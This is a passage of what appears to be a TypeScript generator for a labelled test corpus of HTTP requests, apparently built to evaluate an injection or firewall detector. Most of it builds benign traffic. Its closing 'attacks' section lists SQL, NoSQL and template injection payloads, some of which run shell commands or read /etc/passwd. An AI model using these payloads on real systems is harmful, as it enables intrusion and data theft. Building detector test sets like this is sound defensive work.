    case 'stream':
      return {
        path: `/api/streams/${alnum(10)}/chat`,
        body: {
          message: pick([...PROSE.slice(41, 47), ...I18N.slice(16, 20)]),
          replyTo: rnd() < 0.3 ? `msg_${alnum(14)}` : null,
          emotes: rnd() < 0.5 ? [{ id: 'wavePog', positions: [[0, 6]] }] : [],
          clientTs: Date.UTC(2026, int(0, 10), int(1, 28)),
        },
      };
  }
}

function genClean(): CorpusRequest[] {
  const out: Req[] = [];
  const add = (kind: string, r: Omit<Req, 'kind'>): void => {
    out.push({ kind, ...r });
  };

  // rest-write: 48
  for (let i = 0; i < 48; i++) {
    const d = DOMAINS[i % DOMAINS.length] as Domain;
    const w = restWrite(d);
    add('rest-write', {
      method: pick(['POST', 'POST', 'PUT']),
      path: w.path,
      headers: i % 3 === 0 ? mobileHeaders(JSON_CT) : browserHeaders(JSON_CT, HOST[d]),
      body: JSON.stringify(w.body),
    });
  }

  // merge-patch: 22
  const patches: (() => [string, Record<string, unknown>])[] = [
    () => [
      `/api/v2/claims/CLM-${int(100000, 999999)}`,
      { status: pick(['under_review', 'approved', 'denied']), adjusterNotes: pick(PROSE.slice(0, 6)) },
    ],
    () => [
      `/api/recipes/${int(1, 90000)}`,
      {
        title: 'Updated: ' + pick(['Lemon Bars', 'Pad Thai', 'Focaccia']),
        cookMinutes: int(10, 90),
        notes: null,
      },
    ],
    () => [
      `/v1/users/me/goals`,
      {
        dailyKcal: int(1600, 3200),
        macros: { proteinPct: int(20, 40), carbPct: int(30, 50) },
        weeklyWorkouts: int(2, 6),
      },
    ],
    () => [
      `/api/campaigns/cmp_${alnum(10)}`,
      { goalCents: int(100, 5000) * 1000, endsAt: isoDate(), headline: pick(PROSE.slice(20, 24)) },
    ],
    () => [
      `/api/v3/repos/acme/web/pulls/${int(1, 900)}`,
      {
        title: pick([
          'fix(auth): handle expired refresh tokens',
          'feat: add dark mode',
          'chore(deps): bump undici from 7.15 to 7.16',
        ]),
        draft: false,
      },
    ],
    () => [
      `/api/pms/rooms/${int(101, 920)}`,
      {
        housekeepingStatus: pick(['dirty', 'clean', 'inspected', 'out_of_order']),
        note: pick(PROSE.slice(30, 35)),
      },
    ],
    () => [
      `/api/now/assets/LT-${int(1000, 9999)}`,
      {
        ramGb: pick([16, 32, 64]),
        os: pick(['Windows 11 23H2', 'macOS 15.1', 'Ubuntu 24.04 LTS']),
        assignedTo: null,
      },
    ],
    () => [
      `/api/streams/${alnum(10)}`,
      {
        title: pick(PROSE.slice(41, 47)),
        category: pick(['Music', 'Just Chatting', 'Podcasts']),
        mature: false,
      },
    ],
  ];
  for (let i = 0; i < 22; i++) {
    const [p, b] = (patches[i % patches.length] as () => [string, Record<string, unknown>])();
    add('merge-patch', {
      method: 'PATCH',
      path: p,
      headers: anyHeaders('application/merge-patch+json'),
      body: JSON.stringify(b),
    });
  }

  // json-patch: 20
  for (let i = 0; i < 20; i++) {
    const d = DOMAINS[i % DOMAINS.length] as Domain;
    const ops: Record<string, unknown>[] = [
      {
        op: 'replace',
        path: pick(['/status', '/title', '/notes', '/priority']),
        value: pick([...PROSE, 'closed', 'high']),
      },
    ];
    if (rnd() < 0.6)
      ops.push({
        op: 'add',
        path: '/tags/-',
        value: pick(['urgent', 'vip', 'needs-photos', 'gluten-free', 'bug']),
      });
    if (rnd() < 0.4) ops.push({ op: 'remove', path: `/attachments/${int(0, 5)}` });
    if (rnd() < 0.3) ops.push({ op: 'test', path: '/version', value: int(1, 40) });
    if (rnd() < 0.2) ops.push({ op: 'move', from: '/draft/body', path: '/body' });
    const res = {
      claims: 'claims',
      recipes: 'recipes',
      fitness: 'workouts',
      donate: 'campaigns',
      code: 'issues',
      hotel: 'reservations',
      itsm: 'incidents',
      stream: 'clips',
    }[d];
    add('json-patch', {
      method: 'PATCH',
      path: `/api/${res}/${int(1000, 99999)}`,
      headers: sdkHeaders('application/json-patch+json'),
      body: JSON.stringify(ops),
    });
  }

  // jsonapi: 20
  for (let i = 0; i < 20; i++) {
    const d = DOMAINS[i % DOMAINS.length] as Domain;
    const w = restWrite(d);
    const type = {
      claims: 'claims',
      recipes: 'recipes',
      fitness: 'workouts',
      donate: 'donations',
      code: 'review-comments',
      hotel: 'reservations',
      itsm: 'incidents',
      stream: 'chat-messages',
    }[d];
    const doc: Record<string, unknown> = {
      data: {
        type,
        ...(i % 2 ? { id: String(int(1, 99999)) } : {}),
        attributes: w.body,
        relationships: { owner: { data: { type: 'users', id: String(int(1, 5000)) } } },
      },
    };
    add('jsonapi', {
      method: i % 2 ? 'PATCH' : 'POST',
      path: `/jsonapi/${type}${i % 2 ? `/${int(1, 99999)}` : ''}`,
      headers: { ...browserHeaders('application/vnd.api+json', HOST[d]), accept: 'application/vnd.api+json' },
      body: JSON.stringify(doc),
    });
  }

  // graphql: 32 (POST and GET)
  const gql: (() => { q: string; v: Record<string, unknown>; op: string })[] = [
    () => ({
      op: 'SearchRecipes',
      q: 'query SearchRecipes($q: String!, $first: Int = 20) { recipes(query: $q, first: $first) { edges { node { id title rating } } pageInfo { endCursor hasNextPage } } }',
      v: { q: pick(SEARCHES), first: int(10, 50) },
    }),
    () => ({
      op: 'AddComment',
      q: 'mutation AddComment($input: AddCommentInput!) { addComment(input: $input) { comment { id body createdAt author { login } } } }',
      v: { input: { subjectId: `PR_${alnum(16)}`, body: pick(PROSE.slice(24, 30)) } },
    }),
    () => ({
      op: 'FileClaim',
      q: 'mutation FileClaim($claim: ClaimInput!) { fileClaim(claim: $claim) { id status nextSteps } }',
      v: { claim: restWrite('claims').body },
    }),
    () => ({
      op: 'WeeklyStats',
      q: 'query WeeklyStats($from: Date!, $to: Date!) { me { workouts(from: $from, to: $to) { totalVolumeKg avgHeartRate sessions { type durationSec } } } }',
      v: { from: day(), to: day() },
    }),
    () => ({
      op: 'Availability',
      q: 'query Availability($propertyId: ID!, $arrival: Date!, $nights: Int!) { property(id: $propertyId) { availability(arrival: $arrival, nights: $nights) { roomType rate { amount currency } } } }',
      v: { propertyId: `prop_${int(10, 99)}`, arrival: day(), nights: int(1, 10) },
    }),
    () => ({
      op: 'SendChat',
      q: 'mutation SendChat($streamId: ID!, $text: String!) { sendChatMessage(streamId: $streamId, text: $text) { id flagged } }',
      v: { streamId: alnum(10), text: pick([...PROSE.slice(41, 47), ...I18N.slice(16, 19)]) },
    }),
    () => ({
      op: 'Ticket',
      q: 'query Ticket($id: ID!) { incident(id: $id) { number state assignmentGroup { name } worknotes(last: 5) { text author } } }',
      v: { id: `INC${int(10000, 99999)}` },
    }),
    () => ({
      op: 'Campaign',
      q: 'query Campaign($slug: String!) { campaign(slug: $slug) { title raisedCents goalCents donors(first: 10) { displayName message } } }',
      v: { slug: pick(['winter-coats-2026', 'clean-water-kenya', 'shelter-5k']) },
    }),
    () => ({
      op: 'ModAction',
      q: 'mutation ModAction($input: ModerationInput!) { moderate(input: $input) { ok expiresAt } }',
      v: {
        input: {
          userId: `u_${alnum(8)}`,
          action: pick(['timeout', 'ban', 'delete_message']),
          durationSec: pick([60, 600, 86400]),
          reason: pick(['spam links', 'harassment', 'self-promo (3rd strike)']),
        },
      },
    }),
  ];
  for (let i = 0; i < 32; i++) {
    const g = (gql[i % gql.length] as () => { q: string; v: Record<string, unknown>; op: string })();
    if (i % 4 === 3) {
      add('graphql', {
        method: 'GET',
        path: `/graphql?${qsc({ query: g.q, operationName: g.op, variables: JSON.stringify(g.v) })}`,
        headers: browserHeaders(undefined, pick(Object.values(HOST))),
        body: '',
      });
    } else {
      add('graphql', {
        method: 'POST',
        path: '/graphql',
        headers: {
          ...anyHeaders(JSON_CT),
          ...(i % 5 === 0
            ? { 'apollographql-client-name': 'web', 'apollographql-client-version': '4.12.0' }
            : {}),
        },
        body: JSON.stringify({ operationName: g.op, query: g.q, variables: g.v }),
      });
    }
  }

  // delete: 16
  const delPaths = [
    () => `/api/v2/claims/CLM-${int(100000, 999999)}/attachments/${uuid()}`,
    () => `/api/recipes/${int(1, 99999)}/comments/${int(1, 999999)}`,
    () => `/v1/users/me/workouts/${uuid()}`,
    () => `/api/donations/recurring/sub_${alnum(14)}`,
    () =>
      `/api/v3/repos/acme/web/git/refs/heads/${pick(['feature/dark-mode', 'fix/issue-1234', 'dependabot/npm_and_yarn/undici-7.16.0'])}`,
    () =>
      `/api/pms/reservations/${int(100000, 999999)}?${qs({ reason: pick(['guest cancelled', 'duplicate booking', 'no-show']) })}`,
    () => `/api/now/assets/LT-${int(1000, 9999)}?${qs({ retire: 'true', note: 'e-waste pickup' })}`,
    () => `/api/streams/${alnum(10)}/chat/msg_${alnum(14)}`,
  ];
  for (let i = 0; i < 16; i++) {
    add('delete', {
      method: 'DELETE',
      path: (delPaths[i % delPaths.length] as () => string)(),
      headers: anyHeaders(),
      body: '',
    });
  }

  // search: 48
  const searchEndpoints = [
    '/api/v2/claims/search',
    '/api/recipes/search',
    '/v1/exercises',
    '/api/campaigns',
    '/api/v3/search/issues',
    '/api/pms/guests',
    '/api/now/kb/search',
    '/api/streams/search',
  ];
  for (let i = 0; i < 48; i++) {
    const q = SEARCHES[i % SEARCHES.length] as string;
    const params: Record<string, string> = { q };
    if (rnd() < 0.5) params.page = String(int(1, 20));
    if (rnd() < 0.4) params.sort = pick(['relevance', '-created_at', 'rating:desc', 'updated']);
    if (rnd() < 0.3) params['filter[status]'] = pick(['open', 'closed', 'published']);
    const enc = i % 2 ? qs(params) : qsc(params);
    add('search', {
      method: 'GET',
      path: `${pick(searchEndpoints)}?${enc}`,
      headers: anyHeaders(),
      body: '',
    });
  }

  // form: 26
  for (let i = 0; i < 26; i++) {
    const v = i % 6;
    let params: Record<string, string>;
    let path: string;
    if (v === 0) {
      path = '/donate/checkout';
      params = {
        amount: String(pick([25, 50, 100, 250])),
        frequency: pick(['once', 'monthly']),
        first_name: pick(FIRST),
        last_name: pick(LAST),
        email: `${alnum(7).toLowerCase()}@example.org`,
        comment: pick(PROSE.slice(18, 24)),
        cover_fees: 'on',
      };
    } else if (v === 1) {
      path = '/login';
      params = {
        username: `${pick(FIRST).toLowerCase()}.${alnum(4).toLowerCase()}`,
        password: `${alnum(10)}!#${int(10, 99)}`,
        remember_me: '1',
        csrf_token: alnum(32),
      };
    } else if (v === 2) {
      path = '/recipes/comment';
      params = {
        recipe_id: String(int(1, 9999)),
        rating: String(int(1, 5)),
        body: pick([...PROSE.slice(6, 12), ...PROSE.slice(49, 51)]),
        _csrf: alnum(24),
      };
    } else if (v === 3) {
      path = '/hotel/guest-request';
      params = {
        room: String(int(101, 920)),
        request: pick([...PROSE.slice(30, 35), ...I18N.slice(0, 12)]),
        lang: pick(['de', 'fr', 'zh', 'ja', 'ar', 'he']),
      };
    } else if (v === 4) {
      path = '/oauth/token';
      params = {
        grant_type: 'authorization_code',
        code: alnum(40),
        redirect_uri: 'https://app.fitpulse.example/callback',
        client_id: alnum(20),
        code_verifier: alnum(64),
      };
    } else {
      path = '/support/contact';
      params = {
        subject: pick(['Printer issue', 'Password reset', 'New laptop request']),
        message: pick(PROSE.slice(35, 41)),
        priority: pick(['low', 'normal', 'high']),
      };
    }
    add('form', {
      method: 'POST',
      path,
      headers: browserHeaders('application/x-www-form-urlencoded', pick(Object.values(HOST))),
      body: qs(params),
    });
  }

  // multipart: 26
  const files: (() => { field: string; filename: string; type: string; content: string })[] = [
    () => ({
      field: 'file',
      filename: `workouts-${day()}.csv`,
      type: 'text/csv',
      content:
        'date,exercise,sets,reps,weight_kg\n' +
        Array.from(
          { length: int(3, 8) },
          () =>
            `${day()},${pick(['Squat', 'Bench', 'Row', 'OHP'])},${int(3, 5)},${int(3, 12)},${int(20, 160)}`,
        ).join('\n') +
        '\n',
    }),
    () => ({
      field: 'attachment',
      filename: 'error-log.txt',
      type: 'text/plain',
      content: (CODE[16] as { text: string }).text + '\n' + (CODE[17] as { text: string }).text + '\n',
    }),
    () => ({
      field: 'config',
      filename: 'device-inventory.json',
      type: 'application/json',
      content: JSON.stringify(
        {
          assets: [
            {
              tag: `LT-${int(1000, 9999)}`,
              model: 'ThinkPad T14 Gen 5',
              cpu: 'Ryzen 7 PRO 8840U',
              ramGb: 32,
            },
          ],
        },
        null,
        2,
      ),
    }),
    () => ({
      field: 'photo',
      filename: `IMG_${int(1000, 9999)}.PNG`,
      type: 'image/png',
      content: `\u0089PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0002\u0080\u0000\u0000\u0001\u00e0\b\u0006\u0000\u0000\u0000${alnum(24)}IDATx\u009c${alnum(40)}\u0000\u0000\u0000\u0000IEND\u00aeB\`\u0082`,
    }),
    () => ({
      field: 'document',
      filename: 'repair-estimate.pdf',
      type: 'application/pdf',
      content: `%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`,
    }),
    () => ({
      field: 'logo',
      filename: 'campaign-logo.svg',
      type: 'image/svg+xml',
      content: `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="120" height="120" viewBox="0 0 120 120"><title>HeartFund</title><circle cx="60" cy="60" r="${int(40, 58)}" fill="#${hex(6)}"/><path d="M60 90 L30 55 A15 15 0 0 1 60 40 A15 15 0 0 1 90 55 Z" fill="#fff"/></svg>\n`,
    }),
    () => ({
      field: 'recipe',
      filename: 'recipe-notes.txt',
      type: 'text/plain',
      content: `${pick(PROSE.slice(6, 12))}\n\n- 1 1/2 cups flour\n- 3/4 tsp salt\n- bake @ 375°F for 12-15 min\n`,
    }),
  ];
  for (let i = 0; i < 26; i++) {
    const boundary =
      i % 2
        ? `----WebKitFormBoundary${alnum(16)}`
        : `----------------------------${int(100000000, 999999999)}${int(100000000, 999999999)}`;
    const f = (
      files[i % files.length] as () => { field: string; filename: string; type: string; content: string }
    )();
    const fields: [string, string][] = [
      ['description', pick([...PROSE, ...I18N])],
      ['visibility', pick(['private', 'team', 'public'])],
    ];
    let body = '';
    for (const [k, v] of fields)
      body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${f.field}"; filename="${f.filename}"\r\nContent-Type: ${f.type}\r\n\r\n${f.content}\r\n--${boundary}--\r\n`;
    add('multipart', {
      method: 'POST',
      path: pick([
        '/api/v2/claims/CLM-' + int(100000, 999999) + '/attachments',
        '/v1/imports/workouts',
        '/api/now/assets/import',
        '/api/campaigns/uploads',
        '/api/recipes/attachments',
      ]),
      headers: (i % 2 ? browserHeaders : mobileHeaders)(`multipart/form-data; boundary=${boundary}`),
      body,
    });
  }

  // ndjson: 16
  for (let i = 0; i < 16; i++) {
    const lines: string[] = [];
    const n = int(2, 6);
    for (let j = 0; j < n; j++) {
      if (i % 3 === 0)
        lines.push(
          JSON.stringify({
            ts: isoDate(),
            metric: pick(['heart_rate', 'steps', 'spo2']),
            value: int(50, 12000),
            device: `watch-${alnum(6)}`,
          }),
        );
      else if (i % 3 === 1)
        lines.push(
          JSON.stringify({
            '@timestamp': isoDate(),
            level: pick(['info', 'warn', 'error']),
            service: pick(['pms-api', 'payments', 'transcoder']),
            msg: pick(CODE.slice(14, 18)).text.split('\n')[0],
          }),
        );
      else
        lines.push(
          JSON.stringify({
            type: pick(['chat', 'reaction', 'join']),
            user: `u_${alnum(6)}`,
            text: pick([...PROSE.slice(41, 47), ...I18N.slice(16, 19)]),
          }),
        );
    }
    add('ndjson', {
      method: 'POST',
      path: pick(['/v1/ingest/metrics', '/api/logs/bulk', '/api/streams/events/batch']),
      headers: sdkHeaders('application/x-ndjson'),
      body: `${lines.join('\n')}\n`,
    });
  }

  // webhook: 32
  for (let i = 0; i < 32; i++) {
    const v = i % 6;
    if (v === 0) {
      const ev = {
        id: `evt_${alnum(24)}`,
        object: 'event',
        api_version: '2024-06-20',
        created: 1790000000 + int(0, 9999999),
        type: pick([
          'payment_intent.succeeded',
          'charge.refunded',
          'invoice.paid',
          'customer.subscription.deleted',
        ]),
        livemode: true,
        data: {
          object: {
            id: `pi_${alnum(24)}`,
            object: 'payment_intent',
            amount: pick([2500, 5000, 10000]),
            currency: 'usd',
            description: `Donation to ${pick(['Winter Coat Drive', 'Clean Water Kenya'])}`,
            metadata: { campaign_id: `cmp_${alnum(10)}`, donor_note: pick(PROSE.slice(18, 24)) },
          },
        },
        request: { id: `req_${alnum(14)}`, idempotency_key: uuid() },
      };
      add('webhook', {
        method: 'POST',
        path: '/webhooks/stripe',
        headers: {
          'user-agent': 'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
          'content-type': 'application/json; charset=utf-8',
          'stripe-signature': `t=${1790000000 + int(0, 999999)},v1=${hex(64)}`,
          accept: '*/*; q=0.5, application/xml',
        },
        body: JSON.stringify(ev),
      });
    } else if (v === 1) {
      const ev = pick(['pull_request', 'push', 'issue_comment', 'check_run']);
      const payload =
        ev === 'push'
          ? {
              ref: 'refs/heads/main',
              before: hex(40),
              after: hex(40),
              commits: [
                {
                  id: hex(40),
                  message: pick([
                    'fix: escape user input in search query\n\nPreviously `q` was interpolated into the WHERE clause.',
                    'chore: drop unused `exec` helper',
                    'feat(api): add ORDER BY support to /claims/search',
                    'Revert "Use eval for config parsing"',
                  ]),
                  author: { name: name(), email: 'dev@example.dev' },
                },
              ],
              repository: { full_name: 'acme/billing' },
            }
          : {
              action: pick(['opened', 'synchronize', 'created', 'completed']),
              number: int(1, 5000),
              pull_request: {
                title: pick([
                  'Fix SQL injection in report filter',
                  'Bump lodash from 4.17.20 to 4.17.21',
                  'Add <Suspense> boundary to dashboard',
                ]),
                body: pick(CODE).text,
                user: { login: 'octocat' },
              },
              comment: { body: pick(PROSE.slice(24, 30)) },
              repository: { full_name: 'acme/web', private: true },
            };
      add('webhook', {
        method: 'POST',
        path: '/hooks/github',
        headers: {
          'user-agent': `GitHub-Hookshot/${hex(7)}`,
          'content-type': JSON_CT,
          accept: '*/*',
          'x-github-event': ev,
          'x-github-delivery': uuid(),
          'x-github-hook-id': String(int(100000000, 999999999)),
          'x-hub-signature-256': `sha256=${hex(64)}`,
        },
        body: JSON.stringify(payload),
      });
    } else if (v === 2) {
      const payload = {
        object_kind: 'merge_request',
        event_type: 'merge_request',
        user: { username: 'mchen', name: 'Mei Chen' },
        project: { path_with_namespace: 'platform/infra' },
        object_attributes: {
          iid: int(1, 900),
          title: pick(['Draft: migrate CI to shared runners', 'Update nginx location block for /api/']),
          description: `${pick(PROSE.slice(24, 30))}\n\n\`\`\`${pick(CODE.slice(18, 21)).text}\n\`\`\``,
          state: 'opened',
          action: 'open',
        },
      };
      add('webhook', {
        method: 'POST',
        path: '/hooks/gitlab',
        headers: {
          'user-agent': 'GitLab/17.6.0',
          'content-type': JSON_CT,
          'x-gitlab-event': 'Merge Request Hook',
          'x-gitlab-token': alnum(32),
          'x-gitlab-event-uuid': uuid(),
          'x-gitlab-instance': 'https://gitlab.example.com',
        },
        body: JSON.stringify(payload),
      });
    } else if (v === 3) {
      const body =
        i % 2
          ? qs({
              token: alnum(24),
              team_id: `T${alnum(8).toUpperCase()}`,
              channel_name: 'it-helpdesk',
              user_name: pick(FIRST).toLowerCase(),
              command: '/ticket',
              text: pick([
                'printer on 3rd floor is down again',
                'reset password for jsmith',
                'status INC20931 && INC20944',
              ]),
              response_url: `https://hooks.slack.com/commands/T0/${int(1000, 9999)}/${alnum(24)}`,
              trigger_id: `${int(1000, 9999)}.${int(100000, 999999)}.${hex(32)}`,
            })
          : JSON.stringify({
              token: alnum(24),
              team_id: `T${alnum(8).toUpperCase()}`,
              type: 'event_callback',
              event: {
                type: 'message',
                channel: `C${alnum(8).toUpperCase()}`,
                user: `U${alnum(8).toUpperCase()}`,
                text: pick(PROSE),
                ts: `${1790000000 + int(0, 99999)}.${int(100000, 999999)}`,
              },
              event_id: `Ev${alnum(10)}`,
            });
      add('webhook', {
        method: 'POST',
        path: '/integrations/slack',
        headers: {
          'user-agent': 'Slackbot 1.0 (+https://api.slack.com/robots)',
          'content-type': i % 2 ? 'application/x-www-form-urlencoded' : JSON_CT,
          'x-slack-request-timestamp': String(1790000000 + int(0, 99999)),
          'x-slack-signature': `v0=${hex(64)}`,
        },
        body,
      });
    } else if (v === 4) {
      const body = qs({
        ToCountry: 'US',
        SmsMessageSid: `SM${hex(32)}`,
        NumMedia: '0',
        Body: pick([
          ...PROSE.slice(30, 35),
          'STOP',
          'Y',
          'Can I get a late checkout? Room 412',
          ...I18N.slice(2, 6),
        ]),
        From: `+1555${int(1000000, 9999999)}`,
        To: '+15550001111',
        AccountSid: `AC${hex(32)}`,
        ApiVersion: '2010-04-01',
      });
      add('webhook', {
        method: 'POST',
        path: '/webhooks/twilio/sms',
        headers: {
          'user-agent': 'TwilioProxy/1.1',
          'content-type': 'application/x-www-form-urlencoded',
          'x-twilio-signature': b64(hex(20)),
          'i-twilio-idempotency-token': uuid(),
        },
        body,
      });
    } else {
      const payload = {
        id: int(1000000000, 9999999999),
        email: `${alnum(6).toLowerCase()}@example.com`,
        created_at: isoDate(),
        total_price: `${int(10, 300)}.${int(10, 99)}`,
        currency: 'USD',
        note: pick([
          'Gift wrap please!',
          'Leave at the back door (dog is friendly)',
          "Please don't include the receipt",
          '',
        ]),
        line_items: [
          {
            title: pick(['Cast Iron Skillet 10"', 'Chef\'s Knife 8"', 'Sourdough Starter Kit']),
            quantity: int(1, 3),
            price: `${int(10, 99)}.00`,
          },
        ],
        shipping_address: {
          address1: `${int(1, 999)} ${pick(['Elm St', 'Rue de Rivoli', 'Hauptstraße'])}`,
          city: pick(['Portland', 'Paris', 'München']),
          country_code: pick(['US', 'FR', 'DE']),
        },
      };
      add('webhook', {
        method: 'POST',
        path: '/webhooks/shopify/orders-create',
        headers: {
          'user-agent': 'Shopify-Captain-Hook',
          'content-type': JSON_CT,
          'x-shopify-topic': 'orders/create',
          'x-shopify-hmac-sha256': b64(hex(32)),
          'x-shopify-shop-domain': 'simmer-shop.myshopify.com',
          'x-shopify-webhook-id': uuid(),
          'x-shopify-api-version': '2024-10',
        },
        body: JSON.stringify(payload),
      });
    }
  }

  // cms-html: 32 (campaign pages, KB articles, recipe intros, policy docs)
  const editors = ['tinymce', 'ckeditor5', 'quill', 'prosemirror'];
  for (let i = 0; i < 32; i++) {
    const n = int(2, 5);
    const frags: string[] = [];
    for (let j = 0; j < n; j++) frags.push(pick(HTML_FRAGS));
    const html = frags.join('\n');
    const v = i % 4;
    let path: string;
    let body: Record<string, unknown>;
    if (v === 0) {
      path = `/api/campaigns/cmp_${alnum(10)}/page`;
      body = {
        title: pick(['Winter Coat Drive 2026', 'Clean Water for Kisumu', 'Shelter 5K']),
        contentHtml: html,
        editor: pick(editors),
        status: pick(['draft', 'published']),
      };
    } else if (v === 1) {
      path = `/api/now/kb/articles/KB${int(10000, 99999)}`;
      body = {
        article: {
          title: pick(['How to connect to VPN', 'Mapping network drives', 'Printer troubleshooting']),
          bodyHtml: html,
          category: 'How-to',
          editor: pick(editors),
        },
      };
    } else if (v === 2) {
      path = `/api/recipes/${int(1, 99999)}/story`;
      body = {
        introHtml: `<p>${pick(PROSE.slice(6, 12)).replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>\n${html}`,
      };
    } else {
      path = `/api/v2/policies/docs/${uuid()}`;
      body = { section: `${int(1, 9)}(${pick(['a', 'b', 'c'])})`, html, lang: 'en' };
    }
    add('cms-html', {
      method: pick(['PUT', 'POST']),
      path,
      headers: browserHeaders(JSON_CT, HOST[pick(DOMAINS)]),
      body: JSON.stringify(body),
    });
  }

  // code: 36 (PR descriptions, review suggestions, ticket logs, snippet shares)
  for (let i = 0; i < 36; i++) {
    const c = CODE[i % CODE.length] as { lang: string; text: string };
    const v = i % 4;
    let path: string;
    let body: Record<string, unknown>;
    if (v === 0) {
      path = `/api/v3/repos/acme/${pick(['web', 'billing', 'infra'])}/pulls`;
      body = {
        title: pick([
          'Refactor report query',
          'Add deploy script',
          'Fix crash on empty list',
          'Harden nginx config',
        ]),
        head: `feature/${alnum(6).toLowerCase()}`,
        base: 'main',
        body: `## Summary\n${pick(PROSE.slice(24, 30))}\n\n\`\`\`${c.lang}\n${c.text}\n\`\`\`\n\n- [x] tests\n- [ ] docs`,
      };
    } else if (v === 1) {
      path = `/api/v3/repos/acme/web/pulls/${int(1, 4000)}/reviews`;
      body = {
        event: pick(['COMMENT', 'REQUEST_CHANGES', 'APPROVE']),
        body: pick(PROSE.slice(24, 30)),
        review: { path: 'src/app.ts', line: int(1, 300), suggestedCode: c.text },
      };
    } else if (v === 2) {
      path = `/api/now/incidents/INC${int(10000, 99999)}/worknotes`;
      body = {
        text: `Output from the affected machine:\n\n${c.text}`,
        visibility: pick(['internal', 'customer']),
      };
    } else {
      path = '/api/snippets';
      body = { language: c.lang, title: `${c.lang} snippet`, content: c.text, public: rnd() < 0.5 };
    }
    add('code', { method: 'POST', path, headers: anyHeaders(JSON_CT), body: JSON.stringify(body) });
  }

  // prose: 44
  for (let i = 0; i < 44; i++) {
    const d = DOMAINS[i % DOMAINS.length] as Domain;
    const text = Array.from({ length: int(1, 3) }, () => pick(PROSE)).join(' ');
    const paths: Record<Domain, string> = {
      claims: `/api/v2/claims/CLM-${int(100000, 999999)}/notes`,
      recipes: `/api/recipes/${int(1, 99999)}/comments`,
      fitness: `/v1/coach/threads/${uuid()}/messages`,
      donate: `/api/campaigns/cmp_${alnum(10)}/messages`,
      code: `/api/v3/repos/acme/web/issues/${int(1, 9000)}/comments`,
      hotel: `/api/pms/reservations/${int(100000, 999999)}/notes`,
      itsm: `/api/now/incidents/INC${int(10000, 99999)}/comments`,
      stream: `/api/streams/${alnum(10)}/chat`,
    };
    const key = pick(['body', 'text', 'message', 'note', 'comment']);
    add('prose', {
      method: 'POST',
      path: paths[d],
      headers: i % 2 ? mobileHeaders(JSON_CT) : browserHeaders(JSON_CT, HOST[d]),
      body: JSON.stringify({ [key]: text }),
    });
  }

  // i18n: 34
  for (let i = 0; i < 34; i++) {
    const text = I18N[i % I18N.length] as string;
    const v = i % 3;
    if (v === 2) {
      add('i18n', {
        method: 'GET',
        path: `/api/${pick(['recipes', 'pms/guests', 'streams'])}/search?${qs({ q: text.slice(0, 40), locale: pick(['zh-CN', 'ja-JP', 'ar-SA', 'he-IL', 'ru-RU', 'th-TH']) })}`,
        headers: mobileHeaders(),
        body: '',
      });
    } else {
      const body =
        v === 0
          ? { guestRequest: text, room: String(int(101, 920)), language: pick(['auto', 'de', 'zh', 'ar']) }
          : {
              displayName: pick(['Zoë 🌸', 'محمد', 'Ярослава', '王小明', 'José María', 'Nguyễn Văn A']),
              message: text,
            };
      add('i18n', {
        method: 'POST',
        path: v === 0 ? '/api/pms/guest-requests' : `/api/streams/${alnum(10)}/chat`,
        headers: {
          ...anyHeaders('application/json; charset=utf-8'),
          'accept-language': pick([
            'zh-CN,zh;q=0.9',
            'ar,en;q=0.5',
            'ja-JP',
            'he-IL,he;q=0.9',
            'ru-RU,ru;q=0.9,en;q=0.4',
          ]),
        },
        body: JSON.stringify(body),
      });
    }
  }

  return out.map((r, i) => ({ id: `h11c${i + 1}`, ...r }));
}

// ---------------------------------------------------------------- attacks

/** Fields the API owner excludes from inspection: KB article HTML and review code suggestions. */
export const HELDOUT11_EXCLUDE_FIELDS: string[] = ['body.article.bodyHtml', 'body.review.suggestedCode'];

type Family =
  | 'sql'
  | 'nosql'
  | 'template'
  | 'command'
  | 'path-traversal'
  | 'ssrf'
  | 'prototype-pollution'
  | 'log4shell'
  | 'xss';

const PAYLOADS: Record<Family, readonly string[]> = {
  sql: [
    "' OR '1'='1' -- -",
    "1' AND SLEEP(5)#",
    '-1 UNION ALL SELECT NULL,username,password_hash FROM users-- -',
    "'; DROP TABLE claims;--",
    '1) AND (SELECT 4821 FROM (SELECT(SLEEP(5)))aBcD)-- xyz',
    "1' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- -",
    "admin'--",
    "1;WAITFOR DELAY '0:0:5'--",
    "' || (SELECT pg_sleep(5))--",
    "1' AND 1=CAST((SELECT current_user) AS int)--",
    "' UNION SELECT table_name,NULL FROM information_schema.tables WHERE table_schema=database()#",
    "1 AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'",
    "x' AND 7301=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)--",
    "1' ORDER BY 9-- -",
    "');SELECT LOAD_FILE('/etc/passwd')#",
  ],
  nosql: [
    "' || '1'=='1",
    "'; return true; var x='",
    "1'; sleep(5000); var y='",
    '{"$gt": ""}',
    '{"$where": "sleep(5000) || true"}',
    'this.password.match(/^a.*/)//',
    '{"$ne": null}',
    '{"$regex": "^adm", "$options": "i"}',
  ],
  template: [
    '{{7*7}}',
    '${7*7}',
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    '<%= `id` %>',
    '#{7*7}',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{% set x = self._TemplateReference__context.joiner.__init__.__globals__.os.popen('whoami').read() %}{{x}}",
    "*{T(java.lang.Runtime).getRuntime().exec('whoami')}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
